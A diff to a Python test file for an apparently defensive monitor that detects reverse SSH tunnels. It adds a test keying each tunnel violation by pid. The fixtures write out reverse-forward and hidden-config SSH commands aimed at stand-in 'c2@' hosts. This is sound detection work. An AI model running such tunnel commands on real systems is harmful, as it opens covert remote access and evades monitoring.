@@ -395,7 +395,7 @@ def test_tunnels_in_any_spelling(argv: list[str]) -> None:
     gost were not known."""
     name = argv[0].rsplit("/", 1)[-1][:15]
     p = proc(501, name, argv=argv, exe=f"/usr/bin/{name}")
-    assert ("net.tunnel", f"process:{name}") in new(run([sample(t=0, processes=[p])]))
+    assert ("net.tunnel", f"process:{name} pid 501") in new(run([sample(t=0, processes=[p])]))
 
 
 @pytest.mark.parametrize(
@@ -413,11 +413,37 @@ def test_ordinary_ssh_is_no_tunnel(argv: list[str]) -> None:
     assert new(run([sample(t=i, processes=[p]) for i in range(3)])) == set()
 
 
+def test_two_tunnels_of_one_tool_are_two_violations() -> None:
+    """Second engine: a tool's tunnel was keyed `process:ssh`, so a second `ssh -R` (to the allowed 443,
+    where the quarantine's cut keeps the connection and stops only the pid a decision names) opened while
+    the first stood was in no decision, and went on unreported after the first was killed. Each tunnel
+    process is its own violation (identity with its pid): the second is `new` with its own pid, the
+    first clears when it is gone, the second stands on."""
+    forward = ["ssh", "-N", "-R", "2222:localhost:22", "-p", "443", "c2@203.0.113.40"]
+    first = proc(501, "ssh", argv=forward, exe=SSH)
+    second = proc(502, "ssh", argv=[*forward[:3], "2223:localhost:22", *forward[4:]], exe=SSH)
+    samples = [
+        sample(t=0, processes=[first]),
+        sample(t=1, processes=[first, second]),
+        *(sample(t=2 + i, processes=[second]) for i in range(4)),  # the first one killed
+    ]
+    decisions = [d for d in run(samples) if d.violation.rule == "net.tunnel"]
+    assert [(d.kind, d.violation.identity, d.violation.evidence["pid"]) for d in decisions] == [
+        ("new", "process:ssh pid 501", 501),
+        ("new", "process:ssh pid 502", 502),
+        ("cleared", "process:ssh pid 501", 501),
+    ]
+    config = ["ssh", "-F", "/tmp/.c", "-p", "443", "c2@203.0.113.40"]
+    both = [proc(601, "ssh", argv=config, exe=SSH), proc(602, "ssh", argv=config, exe=SSH)]
+    found = new(run([sample(t=i, processes=both) for i in range(3)]))
+    assert found == {("net.tunnel.ssh-config", "process:ssh pid 601"), ("net.tunnel.ssh-config", "process:ssh pid 602")}
+
+
 def test_ssh_with_a_config_file_is_a_lower_finding() -> None:
     """A forward set in an `-F` file cannot be seen: net.tunnel.ssh-config (High), not net.tunnel."""
     p = proc(501, "ssh", argv=["ssh", "-F", "/tmp/.c", "-p", "443", "c2@192.0.2.10"], exe=SSH)
     found = new(run([sample(t=i, processes=[p]) for i in range(3)]))
-    assert found == {("net.tunnel.ssh-config", "process:ssh")}
+    assert found == {("net.tunnel.ssh-config", "process:ssh pid 501")}
     quiet = proc(501, "ssh", argv=["ssh", "-F", "/dev/null", "host"], exe=SSH)
     assert new(run([sample(t=i, processes=[quiet]) for i in range(3)])) == set()
 
